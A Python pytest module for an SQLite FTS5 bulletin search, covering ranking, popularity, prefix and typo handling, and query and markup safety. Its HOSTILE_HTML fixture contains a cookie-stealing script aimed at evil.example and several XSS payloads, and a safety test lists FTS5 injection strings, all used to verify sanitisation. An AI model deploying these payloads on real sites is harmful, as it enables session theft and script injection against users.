"""Bulletin search (SQLite FTS5, in-process): relevance, popularity, prefix, typos, safety.

Run as a script for timings: `.venv/bin/python -m tests.unit.test_search`.
"""

from __future__ import annotations

import random
import re
import sqlite3
import statistics
import sys
import time
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cache import search as search_module
from cache.model import Bulletin
from cache.search import (
    ALPHA,
    MAX_CORRECTIONS,
    MAX_LIMIT,
    MAX_TERMS,
    SearchHit,
    SearchIndex,
    SearchResult,
    SearchUnavailableError,
    html_to_text,
)
from sims.bulletins import (
    bulletin,
    generate,
    generated_hits,
)
from sims.community_seed import build_seed

WIFI_DROPPING = 1
FIRMWARE_GUIDE = 2
BILLING = 3
MODEM_SHORT = 4
MODEM_LONG = 5
HOSTILE = 6
CAFE = 7
REMOTE = 8

HOSTILE_HTML = (
    "<p>Reset your voicemail <b>PIN</b> from the router menu.</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<img src=x onerror="alert(1)">'
    '<a href="javascript:alert(2)" onclick="alert(3)">open the router page</a>'
    "<style>body { display: none }</style><iframe src='https://evil.example'></iframe>"
    "<!-- <script>alert(4)</script> --><svg onload=alert(5)><p>Then call again</p>"
)

HANDFUL = (
    bulletin(
        WIFI_DROPPING,
        "Wi-Fi keeps dropping every few minutes",
        "<p>Change the channel on the 2.4 GHz band; mine was crowded by the neighbours.</p>"
        "<p>Updating the router firmware fixed it for me.</p>",
        tags=("wi-fi", "router"),
    ),
    bulletin(
        FIRMWARE_GUIDE,
        "Router firmware update guide",
        "<ol><li>Open the admin page</li><li>Download the image</li><li>Wait</li></ol>",
        tags=("router",),
    ),
    bulletin(
        BILLING,
        "Billing date moved to the first of the month",
        "<p>The bill now arrives on the 1st. My wifi was dropping that week too, but that"
        " is another story.</p>",
        category="Billing",
    ),
    bulletin(
        MODEM_SHORT,
        "Modem lights blinking orange",
        "<p>Orange means it is still syncing with the exchange; give it ten minutes.</p>",
    ),
    bulletin(
        MODEM_LONG,
        "Modem lights blinking orange all night",
        "<p>Orange means the line is still syncing with the exchange; wait ten minutes.</p>",
    ),
    bulletin(HOSTILE, "Voicemail PIN reset", HOSTILE_HTML, category="Phone"),
    bulletin(
        CAFE,
        "Café hotspot login page does not open",
        "<p>Turn off private DNS, then the login page opens.</p>",
    ),
    bulletin(
        REMOTE,
        "TV remote will not pair",
        "<p>Hold OK and the red button together.</p>",
        category="TV",
        author_name="Dolores Núñez",
    ),
)


# -- a synthetic community of ~300 bulletins (no "wifi"/"drop" words: those are needles) --


NEEDLE = 10_000  # "Wi-Fi dropping" in the title, among 300 others and two body-only mentions
NEEDLES = (
    bulletin(
        NEEDLE,
        "Wi-Fi dropping when the microwave is on",
        "<p>Move the router or switch to the 5 GHz band.</p>",
        tags=("wi-fi",),
    ),
    bulletin(
        NEEDLE + 1,
        "Router keeps rebooting at night",
        "<p>Before this the wifi was dropping for a week; the power adapter was faulty.</p>",
    ),
    bulletin(
        NEEDLE + 2,
        "Mesh extender shows a red light",
        "<p>Dropping back to one node helped. Wi-Fi is fine now.</p>",
    ),
)


SYNTHETIC = (*generate(), *NEEDLES)
SYNTHETIC_IDS = frozenset(b.id for b in SYNTHETIC)


def seeded() -> list[Bulletin]:
    """The community simulator's seeded bulletins, as the origin client would map them."""
    seed = build_seed()
    categories = {c.id: c.name for c in seed.categories}
    return [
        Bulletin(
            id=t.id,
            title=t.title,
            slug=t.slug,
            author=t.author.username,
            author_name=t.author.name or t.author.username,
            category=categories[t.category_id],
            tags=t.tags,
            excerpt=t.excerpt,
            body_html=t.posts[0].cooked,
            created_at=t.created_at,
            updated_at=t.posts[0].updated_at,
            origin_views=t.views,
            like_count=t.like_count,
        )
        for t in seed.topics
    ]


SEEDED = tuple(seeded())
SEEDED_IDS = frozenset(b.id for b in SEEDED)


@pytest.fixture(scope="module")
def small() -> SearchIndex:
    return SearchIndex.build(HANDFUL, {})


@pytest.fixture(scope="module")
def community() -> SearchIndex:
    return SearchIndex.build(SYNTHETIC, generated_hits(SYNTHETIC))


@pytest.fixture(scope="module")
def seeded_index() -> SearchIndex:
    return SearchIndex.build(SEEDED, {b.id: b.origin_views for b in SEEDED})


def ids(result: SearchResult) -> list[int]:
    return [hit.id for hit in result.hits]


def texts(hit: SearchHit) -> str:
    return "".join(text for text, _ in hit.snippet)


# -- building --------------------------------------------------------------------------


def test_build_indexes_every_bulletin_once_and_a_later_duplicate_replaces_the_earlier() -> None:
    replaced = bulletin(WIFI_DROPPING, "Broadband speed test tips")
    index = SearchIndex.build([*HANDFUL, replaced], {})
    assert len(index) == len(HANDFUL)
    assert WIFI_DROPPING not in ids(index.search("keeps dropping"))
    assert ids(index.search("speed test")) == [WIFI_DROPPING]


def test_an_empty_set_builds_and_finds_nothing() -> None:
    assert SearchIndex.build([], {}).search("router") == SearchResult(hits=())


def test_too_old_sqlite_fails_loudly_at_build(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sqlite3, "sqlite_version_info", (3, 26, 0))
    with pytest.raises(SearchUnavailableError, match=r"SQLite >= 3\.27\.0 with FTS5"):
        SearchIndex.build(HANDFUL, {})


def test_sqlite_without_fts5_fails_loudly_at_build(monkeypatch: pytest.MonkeyPatch) -> None:
    # A build without FTS5 says "no such module: fts5"; an unknown module name does the same.
    monkeypatch.setattr(search_module, "_SCHEMA", "CREATE VIRTUAL TABLE docs USING nofts(x);")
    with pytest.raises(SearchUnavailableError, match="SQLITE_ENABLE_FTS5"):
        SearchIndex.build(HANDFUL, {})


def test_html_to_text_keeps_words_apart_at_blocks_and_together_inside_inline_markup() -> None:
    text = html_to_text("<p>one</p><p>two<br>three</p>re<b>boot</b> &amp; <i>x</i>y")
    assert text.split() == ["one", "two", "three", "reboot", "&", "xy"]


def test_html_to_text_drops_script_style_and_attributes() -> None:
    text = html_to_text(HOSTILE_HTML)
    for gone in ("alert", "cookie", "evil", "javascript", "onerror", "display", "<", ">"):
        assert gone not in text
    assert "open the router page" in text


# -- relevance -------------------------------------------------------------------------


def test_wifi_dropping_finds_the_wifi_dropping_bulletin_first(small: SearchIndex) -> None:
    result = small.search("wifi dropping")
    assert ids(result)[0] == WIFI_DROPPING
    assert BILLING in ids(result)  # the body-only mention is found, ranked lower
    assert result.corrected_query is None


@pytest.mark.parametrize("query", ["wifi dropping", "Wi-Fi dropping", "WIFI DROPPING", "wi fi"])
def test_hyphenated_and_joined_spellings_find_the_same_bulletin(
    small: SearchIndex, query: str
) -> None:
    assert ids(small.search(query))[0] == WIFI_DROPPING


def test_a_title_match_outranks_a_body_only_match(small: SearchIndex) -> None:
    # "firmware": the guide has it in the title, the Wi-Fi bulletin only in its body.
    assert ids(small.search("firmware")) == [FIRMWARE_GUIDE, WIFI_DROPPING]


def test_wifi_dropping_finds_its_bulletin_first_among_300(community: SearchIndex) -> None:
    result = community.search("wifi dropping")
    assert ids(result)[0] == NEEDLE
    assert {NEEDLE + 1, NEEDLE + 2} <= set(ids(result))


def test_device_and_symptom_words_find_bulletins_with_both_in_the_title(
    community: SearchIndex,
) -> None:
    result = community.search("modem buzzing noise", limit=5)
    assert result.hits
    for hit in result.hits:
        assert "modem" in hit.title.lower()
        assert "buzzing noise" in hit.title.lower()


def test_scores_are_positive_and_in_descending_order(community: SearchIndex) -> None:
    scores = [hit.score for hit in community.search("router", limit=MAX_LIMIT).hits]
    assert len(scores) > 20
    assert all(s > 0 for s in scores)
    assert scores == sorted(scores, reverse=True)


def test_author_name_and_category_are_searchable_without_diacritics(small: SearchIndex) -> None:
    assert ids(small.search("nunez")) == [REMOTE]
    assert ids(small.search("Núñez")) == [REMOTE]
    assert ids(small.search("cafe hotspot")) == [CAFE]
    assert set(ids(small.search("billing"))) == {BILLING}


def test_and_falls_back_to_or_when_no_bulletin_has_every_word(small: SearchIndex) -> None:
    result = small.search("voicemail microwave")  # no bulletin mentions a microwave
    assert ids(result) == [HOSTILE]


def test_seeded_community_wifi_dropping_finds_wifi_dropouts_first(
    seeded_index: SearchIndex,
) -> None:
    result = seeded_index.search("wifi dropping", limit=5)
    assert len(result.hits) == 5
    for hit in result.hits:
        title = hit.title.lower()
        assert "wi-fi" in title
        assert "dropping" in title or "drops" in title


@pytest.mark.parametrize(
    ("query", "in_title"),
    [
        ("no mobile data abroad", "no mobile data"),
        ("recordings lost", "lost all recordings"),
        ("dsl light blinking", "dsl light that blinks"),
        ("firmwre stuk", "stuck on a firmware update"),
    ],
)
def test_seeded_community_top_hits_are_about_the_query(
    seeded_index: SearchIndex, query: str, in_title: str
) -> None:
    hits = seeded_index.search(query, limit=3).hits
    assert hits
    assert all(in_title in hit.title.lower() for hit in hits)


def test_seeded_community_typos_are_corrected(seeded_index: SearchIndex) -> None:
    assert seeded_index.search("ruter").corrected_query == "router"
    assert seeded_index.search("firmwre stuk").corrected_query == "firmware stuck"


def test_seeded_community_hostile_html_is_neither_indexed_nor_in_snippets(
    seeded_index: SearchIndex,
) -> None:
    assert any(b.body_html.count("<script") for b in SEEDED)  # the seed does carry some
    for word in ("alert", "evil", "onerror", "javascript", "cookie", "innerhtml"):
        assert seeded_index.search(word).hits == (), word
    for query in ("update", "download", "hover menu", "hidden settings", "diagram", "the"):
        for hit in seeded_index.search(query, limit=MAX_LIMIT).hits:
            assert not re.search(r"<\s*[a-z/!]", texts(hit), re.IGNORECASE), texts(hit)


# -- popularity ------------------------------------------------------------------------


def test_popularity_breaks_a_near_tie(small: SearchIndex) -> None:
    query = "modem lights blinking orange"
    plain = small.search(query).hits
    assert [h.id for h in plain[:2]] == [MODEM_SHORT, MODEM_LONG]
    assert plain[0].score / plain[1].score < 1 + ALPHA  # a near tie, by the formula
    popular = SearchIndex.build(HANDFUL, {MODEM_LONG: 500, MODEM_SHORT: 3})
    assert ids(popular.search(query))[:2] == [MODEM_LONG, MODEM_SHORT]


def test_popularity_does_not_beat_a_much_better_text_match() -> None:
    index = SearchIndex.build(HANDFUL, {WIFI_DROPPING: 1_000_000})
    assert ids(index.search("firmware")) == [FIRMWARE_GUIDE, WIFI_DROPPING]


def test_update_hits_reorders_without_a_rebuild() -> None:
    index = SearchIndex.build(HANDFUL, {})
    query = "modem lights blinking orange"
    assert ids(index.search(query))[:2] == [MODEM_SHORT, MODEM_LONG]
    index.update_hits({MODEM_LONG: 900, 999_999: 5})  # unknown ids are ignored
    assert ids(index.search(query))[:2] == [MODEM_LONG, MODEM_SHORT]
    index.update_hits({})
    assert ids(index.search(query))[:2] == [MODEM_SHORT, MODEM_LONG]


def test_popularity_boost_is_bounded_by_alpha() -> None:
    cold = SearchIndex.build(HANDFUL, {}).search("orange").hits
    hot = SearchIndex.build(HANDFUL, {MODEM_SHORT: 10**9, MODEM_LONG: 1}).search("orange")
    by_id = {h.id: h.score for h in cold}
    for hit in hot.hits:
        assert by_id[hit.id] <= hit.score <= by_id[hit.id] * (1 + ALPHA) * (1 + 1e-9)
    assert {h.id: h.score for h in hot.hits}[MODEM_SHORT] == pytest.approx(
        by_id[MODEM_SHORT] * (1 + ALPHA)
    )


# -- prefix (as you type) --------------------------------------------------------------


@pytest.mark.parametrize("query", ["firmw", "Router firm", "wifi drop", "wifi dropp", "wi-f"])
def test_the_last_word_is_a_prefix_while_typing(small: SearchIndex, query: str) -> None:
    result = small.search(query)
    assert result.hits
    assert result.corrected_query is None  # completing is not correcting
    assert ids(result)[0] in {FIRMWARE_GUIDE, WIFI_DROPPING}


def test_a_finished_word_is_not_a_prefix(small: SearchIndex) -> None:
    assert ids(small.search("firmw")) == [FIRMWARE_GUIDE, WIFI_DROPPING]
    assert ids(small.search("firmw ")) == []  # "firmw" is a word of its own, found nowhere


def test_only_the_last_word_is_a_prefix(small: SearchIndex) -> None:
    assert ids(small.search("firmw modem")) == ids(small.search("modem"))


# -- typos -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "corrected"),
    [("ruter", "router"), ("firmwre", "firmware"), ("ruter firmwre", "router firmware")],
)
def test_misspelled_words_are_corrected_and_reported(
    small: SearchIndex, community: SearchIndex, query: str, corrected: str
) -> None:
    for index in (small, community):
        result = index.search(query)
        assert result.corrected_query == corrected
        assert result.hits
        assert ids(result) == ids(index.search(corrected))


def test_correct_spellings_and_stemmed_forms_are_not_corrected(small: SearchIndex) -> None:
    for query in ("router", "routers firmware", "updating", "blinks"):
        result = small.search(query)
        assert result.hits, query
        assert result.corrected_query is None, query


def test_model_numbers_and_short_words_are_never_corrected(small: SearchIndex) -> None:
    assert small.search("ax3000").corrected_query is None
    assert small.search("pim").corrected_query is None  # not "pin": too short to guess


def test_only_the_first_max_corrections_unknown_words_are_corrected(small: SearchIndex) -> None:
    typed = " ".join(["ruter", "firmwre"] * 3)
    assert MAX_CORRECTIONS == 4
    result = small.search(typed)
    assert result.corrected_query == "router firmware router firmware ruter firmwre"
    # The uncorrected words match nothing, so AND finds nothing and OR ranks the rest.
    assert ids(result)[:2] == ids(small.search("router firmware"))


def test_a_word_far_from_every_indexed_word_is_left_alone(small: SearchIndex) -> None:
    assert small.search("xylophone") == SearchResult(hits=())


# -- safety ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        '"', '""', "'", "NEAR(a b)", "NEAR(router firmware, 2)", "title:foo", "title:router",
        "{title body}: router", "*", "router*", "AND OR NOT", "router NOT firmware", "^",
        "^router", "(router", "router)", "router + firmware", "- router", "a:b:c", "\x00",
        "router\x02x\x03", "a" * 10_000, " ".join(["router"] * 1000),
    ],
)  # fmt: skip
def test_fts5_syntax_in_the_query_is_only_text(small: SearchIndex, query: str) -> None:
    result = small.search(query)
    assert set(ids(result)) <= {b.id for b in HANDFUL}
    if "router" in query:
        assert FIRMWARE_GUIDE in ids(result)


def test_a_column_filter_in_the_query_does_not_filter_columns(small: SearchIndex) -> None:
    # "title:router" is the words "title" and "router": body-only mentions are found too.
    assert HOSTILE in ids(small.search("title:router"))


@pytest.mark.parametrize("query", ["", "   ", "\t\n", "!!!", "—", "\"'*^:()", "_", "\x00"])
def test_empty_or_punctuation_only_queries_find_nothing(small: SearchIndex, query: str) -> None:
    assert small.search(query) == SearchResult(hits=(), corrected_query=None)


def test_only_the_first_max_terms_words_are_searched(small: SearchIndex) -> None:
    filler = " ".join(["modem"] * MAX_TERMS)
    assert ids(small.search(f"{filler} voicemail")) == ids(small.search("modem"))


def test_limit_bounds_the_hits(community: SearchIndex) -> None:
    assert len(community.search("router", limit=3).hits) == 3
    assert len(community.search("the", limit=10_000).hits) == MAX_LIMIT
    with pytest.raises(ValueError, match="limit"):
        community.search("router", limit=0)


def test_hostile_html_is_never_returned_as_markup_in_snippets(small: SearchIndex) -> None:
    for query in ("router", "voicemail pin", "open page", "call again"):
        hit = next(h for h in small.search(query).hits if h.id == HOSTILE)
        snippet = texts(hit)
        assert not re.search(r"<\s*[a-z/!]", snippet, re.IGNORECASE), snippet
        for gone in ("alert", "onerror", "javascript", "cookie", "evil"):
            assert gone not in snippet
    assert small.search("alert cookie evil javascript onerror").hits == ()


def test_lone_surrogates_and_control_characters_in_a_bulletin_are_dropped() -> None:
    # json.loads('"\\ud800"') yields a lone surrogate, which SQLite cannot store.
    index = SearchIndex.build([bulletin(1, "Router\ud800 help\x02", "<p>x\udfff\x03y</p>")], {})
    hit = index.search("router\ud800").hits[0]
    assert hit.title == "Router help"
    assert texts(hit) == "x y"


def test_snippets_mark_the_matched_words(small: SearchIndex) -> None:
    hit = next(h for h in small.search("wifi dropping").hits if h.id == BILLING)
    marked = [text.lower() for text, highlighted in hit.snippet if highlighted]
    assert marked == ["wifi", "dropping"]
    assert "My wifi was dropping that week" in texts(hit)


# -- properties ------------------------------------------------------------------------

FTS_NOISE = st.sampled_from(
    ['"', "'", "*", "^", ":", "(", ")", "{", "}", "+", "-", "NEAR", "AND", "OR", "NOT",
     "title", "body", "router", "wi-fi", "firmw", "ruter", "orange", "é", "\x00", "\x02"]
)  # fmt: skip
QUERIES = st.one_of(st.text(max_size=300), st.lists(FTS_NOISE, max_size=20).map("".join))


@settings(max_examples=300)
@given(query=QUERIES, limit=st.integers(min_value=1, max_value=2 * MAX_LIMIT))
def test_any_query_returns_at_most_limit_hits_from_the_set(
    community: SearchIndex, query: str, limit: int
) -> None:
    result = community.search(query, limit=limit)
    assert len(result.hits) <= min(limit, MAX_LIMIT)
    assert {hit.id for hit in result.hits} <= SYNTHETIC_IDS
    for hit in result.hits:
        assert all(text and "\x02" not in text and "\x03" not in text for text, _ in hit.snippet)


HOSTILE_CHARS = st.sampled_from(
    ["\ud800", "\udfff", "\x00", "\x02", "\x03", "<", ">", "&", "\u0301"]
)
BODIES = st.text(alphabet=st.one_of(st.characters(), HOSTILE_CHARS), max_size=300)


@settings(max_examples=100)
@given(query=QUERIES)
def test_any_query_on_the_seeded_community_returns_hits_from_it(
    seeded_index: SearchIndex, query: str
) -> None:
    assert {hit.id for hit in seeded_index.search(query).hits} <= SEEDED_IDS


@settings(max_examples=100)
@given(body=BODIES, query=st.text(max_size=40))
def test_any_body_builds_and_searches(body: str, query: str) -> None:
    index = SearchIndex.build([bulletin(1, "Router help", body)], {1: 5})
    for q in (query, body[:40], "router"):
        assert set(ids(index.search(q))) <= {1}


# -- timing (a script, not a test: this machine is shared and noisy) ---------------------


def _time_queries(name: str, bulletins: Sequence[Bulletin]) -> None:  # pragma: no cover
    hits = generated_hits(bulletins)
    started = time.perf_counter()
    index = SearchIndex.build(bulletins, hits)
    build_ms = (time.perf_counter() - started) * 1000
    started = time.perf_counter()
    index.update_hits(hits)
    update_ms = (time.perf_counter() - started) * 1000
    out = sys.stdout
    out.write(f"{name}, {len(index)} bulletins: build {build_ms:.1f} ms,")
    out.write(f" update_hits {update_ms:.2f} ms\n")
    queries = (
        "wifi dropping", "router", "modem buzzing noise", "wifi dro", "ruter firmwre",
        "voicemail microwave pin", "NEAR(a b) title:foo", "the", "xylophone", "a" * 200,
    )  # fmt: skip
    for query in queries:
        samples = []
        for _ in range(200):
            started = time.perf_counter()
            index.search(query)
            samples.append((time.perf_counter() - started) * 1000)
        _report(query[:24], samples)
    # Fresh misspellings each time, so the correction memo never helps: the worst case.
    rng = random.Random(3)
    words = [w for b in bulletins for w in b.title.lower().split() if w.isalpha() and len(w) > 4]
    samples = []
    for _ in range(200):
        typos = []
        for word in rng.sample(words, MAX_TERMS):
            cut = rng.randrange(len(word))
            typos.append(word[:cut] + "q" + word[cut + 1 :])
        started = time.perf_counter()
        index.search(" ".join(typos))
        samples.append((time.perf_counter() - started) * 1000)
    _report("12 new typos", samples)


def _report(label: str, samples: list[float]) -> None:  # pragma: no cover
    samples.sort()
    sys.stdout.write(
        f"  {label!r:28} median {statistics.median(samples):.3f} ms"
        f"  p95 {samples[len(samples) * 95 // 100]:.3f} ms  max {samples[-1]:.3f} ms\n"
    )


if __name__ == "__main__":
    _time_queries("synthetic", SYNTHETIC)
    _time_queries("seeded community", SEEDED)
